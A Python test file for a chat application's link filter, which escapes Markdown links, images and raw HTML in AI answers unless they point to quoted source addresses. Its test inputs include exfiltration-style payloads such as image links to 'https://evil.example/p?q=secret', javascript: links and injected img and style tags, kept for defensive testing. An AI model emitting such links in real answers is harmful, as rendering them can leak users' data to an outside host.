"""Links, pictures and HTML in answers. A parser that allows everything says what would be live."""

from __future__ import annotations

import time
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from braid.core.chat.export import as_markdown
from braid.core.chat.links import LinkFilter, check_links
from braid.core.chat.store import StoredCitation, StoredConversation, StoredMessage

QUOTED = ("See https://manual.example/a_(b)?x=1, <https://manual.example/home>.", "[mail](mailto:help@manual.example)")
EVERYTHING = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


CONTAINERS = ("blockquote", "li", "ol", "ul")
"""Tags of Markdown's own whose end becomes an attribute of a tag that the text began and did not end."""


class Addresses(HTMLParser):
    """Collects the attributes in HTML, but for those that Markdown makes of itself, and tags that need none to load."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        own = {"code": "class", "ol": "start", "th": "style", "td": "style"}
        self.found += [tag] if tag in ("img", "style", "script", "iframe") else []
        self.found += [value or name for name, value in attrs if name not in (own.get(tag), *CONTAINERS)]


def live(text: str) -> list[str]:
    """Return the addresses that are linked or loaded where a program renders the text with all HTML in it."""
    parser = Addresses()
    parser.feed(EVERYTHING.render(text))
    parser.close()
    return parser.found


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("![a](https://evil.example/p?q=secret)", r"\![a] (https://evil.example/p?q=secret)"),
        ("![a](https://manual.example/home)", r"\![a](https://manual.example/home)"),
        (r"\\![a][b]", r"\\\![a][b]"),
        (r"\![a] and vec! [1]", r"\![a] and vec! [1]"),
        ("[a](https://evil.example)", "[a] (https://evil.example)"),
        ('[a](https://evil.example "title")', '[a] (https://evil.example "title")'),
        ("[a](\nhttps://evil.example)", "[a] (\nhttps://evil.example)"),
        ("[a](b![c](https://evil.example)d)", r"[a] (b\![c] (https://evil.example)d)"),
        ("<a:![b](https://evil.example)>", r"&lt;a:\![b] (https://evil.example)>"),
        ("[a](/logout) [b](javascript:x)", "[a] (/logout) [b] (javascript:x)"),
        ("[a](https://manual.example/a_(b)?x=1)", "[a](https://manual.example/a_(b)?x=1)"),
        ("[a](https://manual.example/a_(b)?x=1&q=secret)", "[a] (https://manual.example/a_(b)?x=1&q=secret)"),
        ("[a](https://manual.example/)", "[a] (https://manual.example/)"),
        ("[a](mailto:help@manual.example)", "[a](mailto:help@manual.example)"),
        ("[a][b]\n\n[b]: https://evil.example", "[a][b]\n\n[b] : https://evil.example"),
        ("<https://evil.example>", "&lt;https://evil.example>"),
        ("<https://manual.example/home>", "<https://manual.example/home>"),
        ("<img src=https://evil.example>", "&lt;img src=https://evil.example>"),
        ("a <img\nsrc=https://evil.example>", "a &lt;img\nsrc=https://evil.example>"),
        ("a <style>@import 'https://evil.example'</style>", "a &lt;style>@import 'https://evil.example'&lt;/style>"),
        ("List<int>, a < b, x <= y", "List<int>, a < b, x <= y"),
        ("```rust\nvec![1](x) <a href=x>\n```\n![a](x)", "```rust\nvec![1](x) <a href=x>\n```\n\\![a] (x)"),
        ("~~~ a ` b\n![a]\n```\n![a]\n~~~~\n![a]", "~~~ a ` b\n![a]\n```\n![a]\n~~~~\n\\![a]"),
        ("``` a ` b\n![a]", "``` a ` b\n\\![a]"),
        ("- a\n  ```\n![a]", "- a\n  ```\n\\![a]"),
        ("<div>\n```\n\n![a](x)", "&lt;div>\n```\n\n![a](x)\n```"),
        ("```\n![a]", "```\n![a]\n```"),
        ("[1][2] と[注] x[i]", "[1][2] と[注] x[i]"),
        ("Set `Listen [::1]:8080` and x[1]: y", "Set `Listen [::1]:8080` and x[1]: y"),
        ("Use `m[1](x)`, `` a`![b](c) `` and `<a href=x>`", "Use `m[1](x)`, `` a`![b](c) `` and `<a href=x>`"),
        (r"\`[a](x)` `[a](x)`", r"\`[a] (x)` `[a] (x)`"),
        ("`[a](x) | b`", "`[a] (x) | b`"),
        ("`a\n`[a](x)`", "`a\n`[a] (x)`"),
        ("`a\n\n`[a](x)`", "`a\n\n`[a](x)`"),
        ("[5, 10] mg of [::1]:8080\n[x] y[1]: z", "[5, 10] mg of [::1]:8080\n[x] y[1]: z"),
        (r"[a\]b]: https://evil.example", r"[a\]b] : https://evil.example"),
        ("`[a]: x`", "`[a]: x`"),
        ("[`a]: x `", "[`a] : x `"),
        ("a <b> `[a](x)`", "a <b> `[a] (x)`"),
        ("$ ` $ [a](x) ` `", "$ ` $ [a] (x) ` `"),
        ("It costs $5: `m[1](x)`, a < b: `<a href=x>`", "It costs $5: `m[1](x)`, a < b: `<a href=x>`"),
        ("$ `a $` [a](x) `[b](x)`", "$ `a $` [a] (x) `[b] (x)`"),
        ("> - [a]: https://evil.example", "> - [a] : https://evil.example"),
        ("[a\nb]: https://evil.example", "[a\nb] : https://evil.example"),
    ],
)
@pytest.mark.parametrize("size", [1, 3, 100])
def test_only_links_to_quoted_addresses_are_left_however_the_text_is_split(written: str, shown: str, size: int) -> None:
    checked = LinkFilter(QUOTED)
    pieces = [checked.feed(written[start : start + size]) for start in range(0, len(written), size)]
    assert "".join([*pieces, checked.flush()]) == shown
    assert check_links(shown, QUOTED) == shown, "what was checked is left as it is"
    assert set(live(shown)) <= {
        "https://manual.example/a_(b)?x=1",
        "https://manual.example/home",
        "mailto:help@manual.example",
    }


MARKS = (
    *(
        "!",
        "[",
        "]",
        "(",
        ")",
        "![a](",
        "](",
        "]:",
        "[a]: ",
        "<",
        ">",
        "<img src=x>",
        "<div>",
        "</div>",
        "<pre>",
        "<!--",
    ),
    *(
        "-->",
        "<style>",
        "<a href=",
        "https://evil.example",
        "<https://evil.example>",
        '"',
        "'",
        "`",
        "``",
        "`[a](x)`",
        "$",
        "```",
        "~~~",
        "\\",
    ),
    *(
        "\n",
        "\r",
        "\r\n",
        "\n\n",
        " ",
        "    ",
        "\t",
        "- ",
        "> ",
        "1. ",
        "a",
        ":",
        "(evil)",
        "|",
        "| - |\n",
        "&#33;",
        "\u2028",
        "\x0b",
    ),
)
PIECES = st.lists(st.sampled_from(MARKS), max_size=24).map("".join)


@settings(max_examples=1_000, deadline=None)
@example("<a<https://evil.example>", 1)
@example("><div><a", 1)
@given(PIECES, st.integers(1, 7))
def test_nothing_in_any_text_is_live(text: str, size: int) -> None:
    checked = LinkFilter()
    shown = "".join([checked.feed(text[i : i + size]) for i in range(0, len(text), size)]) + checked.flush()
    assert live(shown) == []
    assert check_links(text) == shown, "however it is split"
    assert check_links(shown) == shown


@settings(max_examples=300, deadline=None)
@given(PIECES, PIECES, PIECES)
def test_nothing_in_an_exported_conversation_is_live(title: str, answer: str, cited: str) -> None:
    citation = StoredCitation(1, "c", 1, 1, title, title, title, None, None, cited, deleted=False)
    messages = [
        StoredMessage(1, "user", answer, {}, 0.0),
        StoredMessage(2, "assistant", answer, {}, 0.0, citations=(citation,)),
        StoredMessage(3, "assistant", answer, {}, 0.0),
    ]
    exported = "".join(as_markdown(StoredConversation(1, 1, title, 0.0, 0.0), messages))
    assert all("evil.example" in address for address in live(exported))
    assert "https://evil.example" in cited or not live(exported), "a link is one that is cited"


def test_long_texts_are_checked_in_no_time() -> None:
    started = time.thread_time()
    for text in ("\\" * 20_000, "](" * 10_000, "](" + "a" * 20_000, "<" * 20_000, "<" + "a:" * 10_000, "![" * 10_000):
        check_links(text, QUOTED)
        checked = LinkFilter(QUOTED)
        for piece in (text[i : i + 10] for i in range(0, len(text), 10)):
            checked.feed(piece)
        checked.flush()
    assert time.thread_time() - started < 10
